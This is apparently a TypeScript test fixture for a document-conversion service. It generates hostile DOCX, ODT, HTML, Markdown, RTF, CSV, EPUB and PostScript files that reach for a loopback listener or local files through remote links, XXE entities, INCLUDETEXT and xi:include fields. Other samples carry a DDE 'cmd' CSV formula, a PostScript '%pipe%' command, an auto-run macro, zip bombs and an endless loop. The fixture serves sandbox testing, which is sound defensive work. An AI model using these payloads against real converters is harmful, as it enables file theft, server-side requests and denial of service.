import { zipSync } from 'fflate'
import { writeZip } from '../../src/server/engines/shared/packages/zip.ts'

/**
 * Documents that try to get out: to the network (a listener on loopback), to files of the machine,
 * or to more memory and time than they are due. Each is well-formed, so that an engine reads it.
 */

/** What a document would reach for. */
export interface Bait {
  /** `http://127.0.0.1:port/…` of a listener. */
  readonly address: string
  /** Absolute path of a file that any user may read and that holds {@link secret}. */
  readonly file: string
}

export interface Attack {
  readonly name: string
  readonly conversionId: string
  readonly make: (bait: Bait) => Uint8Array
}

const text = (content: string) => new TextEncoder().encode(content)
const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const packaged = 'http://schemas.openxmlformats.org/package/2006'

/** A DOCX whose text is "hello" and a body of WordprocessingML. */
export function docx(body: string, links = '', head = ''): Uint8Array {
  return writeZip([
    {
      name: '[Content_Types].xml',
      content: `<?xml version="1.0"?><Types xmlns="${packaged}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    },
    {
      name: '_rels/.rels',
      content: `<?xml version="1.0"?><Relationships xmlns="${packaged}/relationships"><Relationship Id="r1" Type="${relations}/officeDocument" Target="word/document.xml"/></Relationships>`,
    },
    {
      name: 'word/_rels/document.xml.rels',
      content: `<?xml version="1.0"?><Relationships xmlns="${packaged}/relationships">${links}</Relationships>`,
    },
    {
      name: 'word/document.xml',
      content: `<?xml version="1.0"?>${head}<w:document xmlns:w="${word}" xmlns:r="${relations}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body><w:p><w:r><w:t>hello</w:t></w:r></w:p>${body}</w:body></w:document>`,
    },
  ])
}

function linkedPicture(target: string): Uint8Array {
  const picture = `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="r9"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
  const link = `<Relationship Id="r9" Type="${relations}/image" Target="${target}" TargetMode="External"/>`
  return docx(picture, link)
}

function includedText(target: string): Uint8Array {
  const field = `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT "${target}" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
  return docx(field)
}

const office = 'urn:oasis:names:tc:opendocument:xmlns'
const openDocument = [
  `xmlns:office="${office}:office:1.0" xmlns:text="${office}:text:1.0"`,
  `xmlns:draw="${office}:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"`,
  `xmlns:svg="${office}:svg-compatible:1.0" xmlns:script="${office}:script:1.0"`,
  `xmlns:xi="http://www.w3.org/2001/XInclude" office:version="1.2"`,
].join(' ')

function odt(body: string, head = '', before = ''): Uint8Array {
  return writeZip([
    { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', stored: true },
    {
      name: 'META-INF/manifest.xml',
      content: `<?xml version="1.0"?><manifest:manifest xmlns:manifest="${office}:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
    },
    {
      name: 'content.xml',
      content: `<?xml version="1.0"?>${head}<office:document-content ${openDocument}>${before}<office:body><office:text><text:p>hello</text:p>${body}</office:text></office:body></office:document-content>`,
    },
  ])
}

const odtPicture = (href: string) =>
  odt(
    `<text:p><draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="paragraph"><draw:image xlink:href="${href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`,
  )

const odtSection = (href: string) =>
  odt(
    `<text:section text:name="s"><text:section-source xlink:href="${href}" xlink:type="simple"/><text:p>old</text:p></text:section>`,
  )

const macro = `<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners>`

const html = (body: string) =>
  text(
    `<!doctype html><html><head><meta charset="utf-8"><title>t</title></head><body><p>hello</p>${body}</body></html>`,
  )

const eps = (body: string) =>
  text(`%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 200 200\n${body}\nshowpage\n%%EOF\n`)

const readAndShow = (file: string) =>
  eps(`/Courier findfont 8 scalefont setfont 10 100 moveto
{ (${file}) (r) file 200 string readline pop show } stopped { pop } if`)

/** A part of zeros that packs a thousandfold. */
function bomb(part: string, others: Record<string, Uint8Array> = {}): Uint8Array {
  return zipSync({ ...others, [part]: [new Uint8Array(64 * 1024 * 1024), { level: 9 }] })
}

export const attacks: readonly Attack[] = [
  {
    name: 'a remote picture in DOCX',
    conversionId: 'docx-to-pdf',
    make: ({ address }) => linkedPicture(address),
  },
  {
    name: 'a picture from a file in DOCX',
    conversionId: 'docx-to-pdf',
    make: ({ file }) => linkedPicture(`file://${file}`),
  },
  {
    name: 'text included from a file in DOCX',
    conversionId: 'docx-to-pdf',
    make: ({ file }) => includedText(file),
  },
  {
    name: 'an external entity in DOCX',
    conversionId: 'docx-to-pdf',
    make: ({ file }) =>
      docx(
        '<w:p><w:r><w:t>&x;</w:t></w:r></w:p>',
        '',
        `<!DOCTYPE d [<!ENTITY x SYSTEM "file://${file}">]>`,
      ),
  },
  {
    name: 'a remote template of DOCX',
    conversionId: 'docx-to-pdf',
    make: ({ address }) =>
      docx(
        '',
        `<Relationship Id="r8" Type="${relations}/attachedTemplate" Target="${address}" TargetMode="External"/>`,
      ),
  },
  {
    name: 'a remote picture in ODT',
    conversionId: 'odt-to-pdf',
    make: ({ address }) => odtPicture(address),
  },
  {
    name: 'a picture from a file in ODT',
    conversionId: 'odt-to-pdf',
    make: ({ file }) => odtPicture(`file://${file}`),
  },
  {
    name: 'a section linked to a file in ODT',
    conversionId: 'odt-to-pdf',
    make: ({ file }) => odtSection(`file://${file}`),
  },
  {
    name: 'a section linked to an address in ODT',
    conversionId: 'odt-to-txt',
    make: ({ address }) => odtSection(address),
  },
  {
    name: 'xi:include in ODT',
    conversionId: 'odt-to-pdf',
    make: ({ file }) => odt(`<text:p><xi:include href="file://${file}" parse="text"/></text:p>`),
  },
  {
    name: 'an external entity in ODT',
    conversionId: 'odt-to-pdf',
    make: ({ file }) =>
      odt('<text:p>&x;</text:p>', `<!DOCTYPE d [<!ENTITY x SYSTEM "file://${file}">]>`),
  },
  {
    name: 'a macro on opening in ODT',
    conversionId: 'odt-to-pdf',
    make: () => odt('', '', `<office:scripts>${macro}</office:scripts>`),
  },
  {
    name: 'a remote picture in HTML',
    conversionId: 'html-to-pdf',
    make: ({ address }) =>
      html(
        `<img src="${address}"><link rel="stylesheet" href="${address}"><iframe src="${address}"></iframe>`,
      ),
  },
  {
    name: 'a file in HTML',
    conversionId: 'html-to-pdf',
    make: ({ file }) =>
      html(
        `<img src="file://${file}"><iframe src="file://${file}"></iframe><object data="file://${file}"></object>`,
      ),
  },
  {
    name: 'a remote picture and HTML in Markdown',
    conversionId: 'md-to-pdf',
    make: ({ address, file }) =>
      text(
        `# t\n\n![p](${address})\n\n<img src="${address}"><iframe src="file://${file}"></iframe>\n`,
      ),
  },
  {
    name: 'a picture from a file in Markdown',
    conversionId: 'md-to-html',
    make: ({ file, address }) =>
      text(`![p](file://${file})\n\n![q](${address})\n\n<script>fetch("${address}")</script>\n`),
  },
  {
    name: 'a linked picture in RTF',
    conversionId: 'rtf-to-pdf',
    make: ({ address, file }) =>
      text(
        `{\\rtf1 hello {\\field{\\*\\fldinst INCLUDEPICTURE "${address}" \\\\d}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDETEXT "${file}"}{\\fldrslt y}}}`,
      ),
  },
  {
    name: 'a web query in CSV and a formula',
    conversionId: 'csv-to-pdf',
    make: ({ address }) => text(`=WEBSERVICE("${address}"),2\n="=cmd|'/C calc'!A0",1\n`),
  },
  {
    name: 'a file read by PostScript',
    conversionId: 'eps-to-pdf',
    make: ({ file }) => readAndShow(file),
  },
  {
    name: 'a pipe opened by PostScript',
    conversionId: 'eps-to-pdf',
    make: ({ file }) =>
      eps(`{ (%pipe%cat ${file}) (r) file 100 string readline pop show } stopped { pop } if`),
  },
  {
    name: 'a picture of 60000 x 60000 in PostScript',
    conversionId: 'eps-to-png',
    make: () =>
      text(
        '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 60000 60000\n0 0 60000 60000 rectfill showpage\n%%EOF\n',
      ),
  },
  {
    name: 'a remote picture in an e-book',
    conversionId: 'epub-to-pdf',
    make: ({ address, file }) =>
      epub(`<img src="${address}"/><img src="file://${file}"/><iframe src="file://${file}"/>`),
  },
  { name: 'a bomb in DOCX', conversionId: 'docx-to-pdf', make: () => bomb('word/document.xml') },
  {
    name: 'a bomb in XLSX',
    conversionId: 'xlsx-to-pdf',
    make: () => bomb('xl/worksheets/sheet1.xml'),
  },
  {
    name: 'a bomb in VSDX',
    conversionId: 'vsdx-to-pdf',
    make: () => bomb('visio/pages/page1.xml'),
  },
]

function epub(body: string): Uint8Array {
  return writeZip([
    { name: 'mimetype', content: 'application/epub+zip', stored: true },
    {
      name: 'META-INF/container.xml',
      content:
        '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="c.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
    },
    {
      name: 'c.opf',
      content:
        '<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="i">x</dc:identifier><dc:title>t</dc:title><dc:language>en</dc:language></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>',
    },
    {
      name: 'a.xhtml',
      content: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body><p>hello</p>${body}</body></html>`,
    },
  ])
}

/** A program that never ends and never shows a page. */
export const endlessPostScript = eps('{ } loop')
